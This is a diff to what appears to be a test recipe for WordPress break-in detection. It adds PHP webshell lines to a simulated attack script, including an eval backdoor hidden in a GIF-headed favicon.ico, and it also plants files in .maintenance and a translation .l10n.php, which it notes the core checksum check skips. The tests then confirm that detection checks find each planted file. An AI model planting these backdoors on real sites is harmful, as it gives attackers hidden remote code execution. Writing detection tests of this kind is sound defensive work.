@@ -46,6 +46,9 @@ const PLANTED = {
     `${SITE.root}/wp-content/uploads/.user.ini`,
     `${SITE.root}/wp-cli.yml`,
     '/var/www/example.com/wp-cli.yml',
+    `${SITE.root}/wp-content/uploads/2026/11/favicon.ico`,
+    `${SITE.root}/.maintenance`,
+    `${SITE.root}/wp-content/languages/en_US.l10n.php`,
   ],
   /** Warnings of core verify-checksums --include-root. */
   core: [
@@ -58,7 +61,9 @@ const PLANTED = {
 /**
  * The attack, as the site's account (PHP runs as it): an administrator hidden from WP-CLI's user list by a
  * dot-named must-use plugin, a link in mu-plugins to PHP dropped in uploads, an auto_prepend_file, a core and a
- * plugin file changed, a backdoor beside index.php, wp-cli.yml files that run PHP when WP-CLI starts below them.
+ * plugin file changed, a backdoor beside index.php, wp-cli.yml files that run PHP when WP-CLI starts below them,
+ * PHP in an .ico in uploads, and the two files core runs as PHP that the core check skips (.maintenance, a
+ * translation's .l10n.php).
  */
 const ATTACK = `set -e
 cd ${SITE.root}
@@ -77,6 +82,9 @@ echo 'auto_prepend_file = ${SITE.root}/wp-content/uploads/2026/11/.thumb.phtml' 
 printf '\\n// planted in core\\n' >> wp-includes/functions.php
 printf '\\n// planted in a plugin\\n' >> wp-content/plugins/${PLUGIN}/${PLUGIN}.php
 echo '<?php @eval($_POST["c"] ?? "");' > cache.php
+printf 'GIF89a<?= @eval($_POST["i"] ?? "") ?>' > wp-content/uploads/2026/11/favicon.ico
+echo '<?php // planted: core requires .maintenance on every load' > .maintenance
+mkdir -p wp-content/languages && echo '<?php // planted: WordPress 6.5+ includes a locale.l10n.php' > wp-content/languages/en_US.l10n.php
 echo 'require: wp-content/uploads/2026/11/.thumb.phtml' > wp-cli.yml
 echo 'require: public/wp-content/uploads/2026/11/.thumb.phtml' > /var/www/example.com/wp-cli.yml
 `;
@@ -196,7 +204,7 @@ async function checksAfterBreakIn(ctx: RecipeContext) {
     ctx.expect(
       sorted(extra) === sorted(PLANTED.listed),
       CODE_FREE_CHECKS,
-      'on the broken-into site, the code-free checks list each planted file: the dot-named must-use plugin, the link to PHP in uploads, the .phtml in uploads, the .user.ini and both wp-cli.yml',
+      'on the broken-into site, the code-free checks list each planted file: the dot-named must-use plugin, the link to PHP in uploads, the .phtml and the .ico holding PHP in uploads, the .user.ini, both wp-cli.yml, .maintenance and a translation .l10n.php',
       () =>
         `the code-free checks missed ${PLANTED.listed.filter((p) => !extra.includes(p)).join(', ') || 'nothing'} and listed ${extra.filter((p) => !PLANTED.listed.includes(p)).join(', ') || 'nothing'} besides:\n${found}`,
     );
@@ -272,10 +280,22 @@ export const wordpressSecurityRecipe: Recipe = {
   lane: 'wordpress-security',
   breakingEdits: [
     {
-      what: 'drop the find of PHP in uploads',
+      what: 'drop the searches of PHP in uploads, by name and by content',
       ref: CODE_FREE_CHECKS,
-      edit: replace(/^find -H "\$SITE\/wp-content\/uploads".*\n/m, ''),
+      edit: replace(/^find -H "\$SITE\/wp-content\/uploads".*\n.*\ngrep -rlaiE .*\n/m, ''),
       expect: /the code-free checks missed \S*\.thumb\.phtml/,
+    },
+    {
+      what: 'drop the search of uploads by content',
+      ref: CODE_FREE_CHECKS,
+      edit: replace(/^grep -rlaiE .*\n/m, ''),
+      expect: /the code-free checks missed \S*favicon\.ico/,
+    },
+    {
+      what: 'drop the finds of .maintenance and translation PHP (the core check skips both)',
+      ref: CODE_FREE_CHECKS,
+      edit: replace(/^find -H "\$SITE" -maxdepth 1 -name \.maintenance\n.*\n/m, ''),
+      expect: /the code-free checks missed \S*\.maintenance, \S*en_US\.l10n\.php/,
     },
     {
       what: "drop wp-cli*.yml from the site's find (the loop then misses one in the web root itself)",
